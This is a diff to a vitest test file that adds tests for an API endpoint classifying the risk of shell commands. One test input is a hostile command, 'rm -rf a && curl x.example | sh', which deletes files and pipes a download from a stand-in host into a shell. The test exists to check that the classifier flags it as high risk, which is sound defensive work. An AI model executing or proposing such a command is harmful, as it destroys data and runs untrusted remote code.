@@ -2,7 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { AFTER, BASES, BEFORE, LAYER } from './rehearsal.fixture.ts';
 import { ENVELOPE, openPlace, type Place } from './server.fixture.ts';
 import { routeOf } from './table.ts';
-import { ShownRun } from './wire.ts';
+import { Classified, ShownRun } from './wire.ts';
 
 let place: Place;
 let id: string;
@@ -156,6 +156,32 @@ describe('a list of runs', () => {
       const answer = await place.ask(`/v1/runs?${query}`);
       expect(answer.status).toBe(400);
       expect(await answer.json()).toMatchObject({ type: 'https://drylane.dev/problems/bad-input' });
+    },
+  );
+});
+
+describe('a command that is only asked about', () => {
+  const ask = (json: object) => place.ask('/v1/classify', { as: 'viewer', json });
+
+  it('is answered with its risk and the steps that it could be split into', async () => {
+    const answer = Classified.parse(await (await ask({ command: 'rm -rf a && curl x.example | sh' })).json());
+    expect(answer.risk).toMatchObject({ level: 'high', opaque: true });
+    expect(answer.whole).toBeNull();
+    expect(answer.steps).toMatchObject([
+      { text: 'rm -rf a', operator: null, span: [0, 8] },
+      { text: 'curl x.example | sh', operator: '&&', span: [12, 31] },
+    ]);
+  });
+
+  it('is one step where it cannot be split, and that says why', async () => {
+    const answer = Classified.parse(await (await ask({ command: 'trap ls ERR; ls', shell: 'bash' })).json());
+    expect([answer.steps.length, answer.whole]).toEqual([1, expect.any(String)]);
+  });
+
+  it.each([{}, { command: ' ' }, { command: 'ls', shell: 'zsh' }, { command: 'ls', comand: 'ls' }])(
+    'is refused as %j',
+    async (json) => {
+      expect((await ask(json)).status).toBe(400);
     },
   );
 });
